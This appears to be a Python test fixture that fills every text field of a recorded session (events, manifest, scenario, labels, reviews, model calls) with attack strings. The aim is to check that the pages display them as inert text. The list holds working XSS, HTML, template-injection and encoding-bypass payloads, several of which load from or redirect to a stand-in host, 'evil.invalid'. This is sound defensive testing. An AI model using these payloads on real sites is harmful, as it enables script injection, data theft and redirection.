"""Attacks in every text of a session: what the pages must show as text, and never run, fetch or obey."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import yaml

from detente.transcripts.events import Envelope, chain, line_of, parse
from detente.transcripts.store import Folder

__all__ = ["ATTACKS", "NAMES", "poison", "words_of"]

RUN = "window.pwned=1"


def words_of(text: str) -> frozenset[str]:
    """The words of a list."""
    return frozenset(text.split())


AWAY = "http://evil.invalid"
ATTACKS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={AWAY}/a.js></script>",
    f"</script><script>{RUN}</script>",
    f"<script>{RUN}//",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src={AWAY}/p onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img src={AWAY}/pixel.png>",
    f"<img srcset='{AWAY}/p 1x'>",
    f"<image xlink:href={AWAY}/i>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='{AWAY}/s#x'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src={AWAY}></iframe></foreignObject></svg>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe src={AWAY}></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={AWAY}/o></object>",
    f"<embed src={AWAY}/e>",
    f"<video src={AWAY}/v onloadstart={RUN}></video>",
    f"<audio src={AWAY}/a autoplay onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<body background={AWAY}/b>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<form action={AWAY}><button>go</button></form>",
    f"<button formaction='javascript:{RUN}'>go</button>",
    f"<a href='javascript:{RUN}'>link</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>link</a>",
    f"<a href='vbscript:{RUN}'>link</a>",
    f"<a href=' &#106;avascript:{RUN}'>link</a>",
    f"<a href={AWAY} ping={AWAY}/ping>link</a>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta http-equiv=Content-Security-Policy content='script-src *'><script src={AWAY}/b.js></script>",
    f"<link rel=stylesheet href={AWAY}/c.css>",
    f"<link rel=prefetch href={AWAY}/d>",
    f"<style>@import '{AWAY}/e.css';</style>",
    f"<style>body{{background:url({AWAY}/f)}}</style>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus '",
    f"` onmouseover={RUN} `",
    f'x" autofocus tabindex=1 onfocus={RUN} y="',
    f"javascript:{RUN}",
    f"data:text/html;base64,PHNjcmlwdD4={RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
    f"[link](javascript:{RUN}) ![picture]({AWAY}/g)",
    f"[x]: {AWAY} '<script>{RUN}</script>'",
    f"# heading\n```html\n<script>{RUN}</script>\n```",
    "\u202e\u2066evil\u2069\u202c turned \u200f\u061c around \u200b\u2028 \ufeff",
    "\x1b[2J\x1b]0;title\x07 \x00 \x08\x7f controls",
    '=HYPERLINK("http://evil.invalid","x")',
    "<xmp><p title='</xmp><script>window.pwned=1</script>'>",
    "A" * 200 + f"<script>{RUN}</script>",
)
"""Each would set `pwned`, fetch from `evil.invalid`, leave the page, or turn its text around."""
NAMES = (
    "<img src=x onerror=window.pwned=1>",
    'a" onmouseover="window.pwned=1',
    "'><svg onload=window.pwned=1>",
)
"""Names of folders."""
TEXTS = words_of("""
    text because title message outcome label reason question detail summary note notes author_note
    condition instructions private_note who name manner limits low high why process repaired unit
    ordering
""")
"""Fields that hold words, in events, manifests and scenarios."""
LISTS = frozenset(("reasons", "beliefs", "red_lines", "private", "leaves_out"))
SHORT = 55
"""Characters that every such field takes."""


def attacks() -> Iterator[str]:
    """Every attack, again and again."""
    return itertools.cycle(ATTACKS)


def sown(value: Any, source: Iterator[str], most: int = 3000) -> Any:  # noqa: ANN401 - JSON
    """The same with an attack in every text of a known name."""
    if isinstance(value, list):
        return [sown(entry, source, most) for entry in value]
    if not isinstance(value, dict):
        return value
    return {name: _sown(name, entry, source, most) for name, entry in value.items()}


def _sown(name: str, value: Any, source: Iterator[str], most: int) -> Any:  # noqa: ANN401 - JSON
    if name in TEXTS and isinstance(value, str) and value:
        return next(source)[:most]
    if name in LISTS and isinstance(value, list) and all(isinstance(entry, str) for entry in value):
        return [next(source)[: min(most, 300)] for _ in value]
    return sown(value, source, most)


def poison(path: Path) -> None:
    """Put attacks into every text of a session: events, manifest, scenario, labels, reviews, journal."""
    source = attacks()
    _events(path, source)
    manifest = sown(json.loads((path / "session.json").read_text()), source)
    manifest |= {"world": next(source), "offers": next(source), "analyst": next(source)}
    manifest["seats"] = {seat: next(source) for seat in manifest["seats"]}
    manifest["sets"] = {next(source): next(source)}
    (path / "session.json").write_text(json.dumps(manifest))
    scenario = yaml.safe_load((path / "scenario.yaml").read_text(encoding="utf-8"))
    for part in ("issues", "parties", "ratifiers", "levers", "demands", "stages", "worlds", "personas"):
        scenario[part] = sown(scenario[part], source, SHORT)
    scenario["title"] = next(source)
    (path / "scenario.yaml").write_text(yaml.safe_dump(scenario, sort_keys=False), encoding="utf-8")
    labels = {
        "tags": [next(source) for _ in range(3)],
        "notes": [{"text": next(source), "when": next(source)}],
    }
    (path / "labels.json").write_text(json.dumps(labels))
    _reviews(path, source)
    _calls(path, source)


def _events(path: Path, source: Iterator[str]) -> None:
    lines, before = [], ""
    for line in Folder(path).lines():
        event = json.loads(line)
        if event["type"] == "statement":
            event["body"]["text"] = "\n".join(next(source) for _ in range(6))
            words = event["body"]["text"]
        elif event["type"] == "reading":
            for number, position in enumerate(event["body"]["positions"]):
                position |= {"start": number, "end": number + 40, "quote": words[number : number + 40]}
            event["body"] = sown(event["body"], source, 280)
            event["body"]["refused"] = [{"reason": next(source)[:280], "quote": next(source)}]
        else:
            event["body"] = sown(event["body"], source, 110)
        event["prev"] = before
        made: Envelope = parse(json.dumps(event))
        lines.append(line_of(made))
        before = chain(lines[-1])
    (path / "events.jsonl").write_bytes(b"".join(lines))


def _reviews(path: Path, source: Iterator[str]) -> None:
    event = next(json.loads(line) for line in Folder(path).lines() if b'"type":"statement"' in line)
    reviews = [
        {
            "who": next(source)[:80],
            "when": next(source),
            "statement": event["seq"],
            "verdict": "note",
            "note": text,
        }
        for text in ATTACKS
    ]
    (path / "reviews.jsonl").write_text("".join(json.dumps(entry) + "\n" for entry in reviews))


def _calls(path: Path, source: Iterator[str]) -> None:
    event = next(json.loads(line) for line in Folder(path).lines() if b'"type":"statement"' in line)
    texts = {f"t{number}": text for number, text in enumerate(ATTACKS)}
    attempt = {"kind": next(source), "message": next(source), "raw": "\n".join(ATTACKS)}
    answer: Mapping[str, Any] = {
        "text": "\n".join(ATTACKS),
        "finish": next(source),
        "sent": {next(source): next(source)},
        "model": next(source),
        "attempts": [attempt],
    }
    call = {
        "slot": {"act": event["slot"]},
        "by": "model",
        "model": next(source),
        "digest": next(source),
        "messages": [[next(source), name] for name in texts],
        "reply_schema": "t0",
        "answer": answer,
    }
    lines = [*({"text": name, "is": text} for name, text in texts.items()), call]
    (path / "calls.jsonl").write_text("".join(json.dumps(entry) + "\n" for entry in lines))
